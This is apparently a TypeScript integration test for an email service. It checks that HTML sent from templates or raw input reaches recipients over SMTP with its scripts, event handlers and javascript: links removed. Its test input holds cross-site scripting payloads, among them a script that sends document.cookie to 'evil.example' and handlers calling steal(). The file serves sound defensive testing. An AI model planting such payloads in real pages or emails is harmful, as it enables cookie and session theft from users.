import { simpleParser } from "mailparser";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestApp, TEST_DRIVER, type TestApp, type TestProject } from "../../support/app";
import { startSmtpServer, waitFor } from "../../support/smtp-server";

/**
 * Issue 21: an HTML template with `<script>` was saved and sent as written. The API still takes
 * it (the dashboard warns; docs/decisions/0043), and every email leaves without scripts, event
 * handlers or javascript: links, over real SMTP, whether from a template or raw HTML.
 */
let app: TestApp;
let smtp: Awaited<ReturnType<typeof startSmtpServer>>;
let project: TestProject;

beforeAll(async () => {
  smtp = await startSmtpServer();
  app = await startTestApp({ worker: "embedded", config: { smtpUrl: smtp.url } });
  project = await app.createProject({ domain: "mail.test" });
});
afterAll(async () => {
  await app?.close();
  await smtp?.close();
});

const HOSTILE = [
  "<h1>Your order</h1>",
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
  '<p onclick="steal()">Thanks, {{name}}.</p>',
  '<a href="javascript:alert(1)">Open</a> <a href="https://shop.example/orders">Orders</a>',
  '<img src="https://shop.example/logo.png" onerror="steal()" alt="Shop">',
].join("\n");

async function delivered(messageId: string) {
  const message = await waitFor(
    () => smtp.received.find((m) => m.messageId === messageId),
    15_000,
    `message ${messageId}`,
  );
  return simpleParser(message.raw);
}

function expectNoScripts(html: string) {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/\son(click|error)=/i);
  expect(html).not.toMatch(/javascript:/i);
  expect(html).toContain("Your order");
  expect(html).toContain('alt="Shop"');
}

describe(`scripts never leave in an email (${TEST_DRIVER})`, () => {
  it("keeps a template's HTML as written, and sends it without its scripts", async () => {
    const created = await app.api("/v1/templates", {
      method: "POST",
      key: project.live,
      body: { name: "Receipt", subject: "Your order", format: "html", source: HOSTILE },
    });
    expect(created.status, created.text).toBe(201);
    expect(created.body.source).toBe(HOSTILE);
    const patched = await app.api(`/v1/templates/${created.body.id}`, {
      method: "PATCH",
      key: project.live,
      body: { source: `${HOSTILE}\n<script src="https://evil.example/x.js"></script>` },
    });
    expect(patched.status, patched.text).toBe(200);

    const sent = await app.api("/v1/send", {
      method: "POST",
      key: project.live,
      body: {
        from: "Shop <orders@mail.test>",
        to: "ana@example.com",
        subject: "Your order",
        template: created.body.id,
        variables: { name: "Ana" },
      },
    });
    expect(sent.status, sent.text).toBe(200);
    const message = await delivered(sent.body.messageId);
    expectNoScripts(String(message.html));
    expect(String(message.html)).toContain("Thanks, Ana.");
    expect(message.text).not.toContain("document.cookie");
  });

  it("sends raw HTML without its scripts", async () => {
    const sent = await app.api("/v1/send", {
      method: "POST",
      key: project.live,
      body: {
        from: "Shop <orders@mail.test>",
        to: "bo@example.com",
        subject: "Raw",
        html: HOSTILE,
      },
    });
    expect(sent.status, sent.text).toBe(200);
    const message = await delivered(sent.body.messageId);
    expectNoScripts(String(message.html));
    expect(message.text).not.toContain("document.cookie");
  });
});
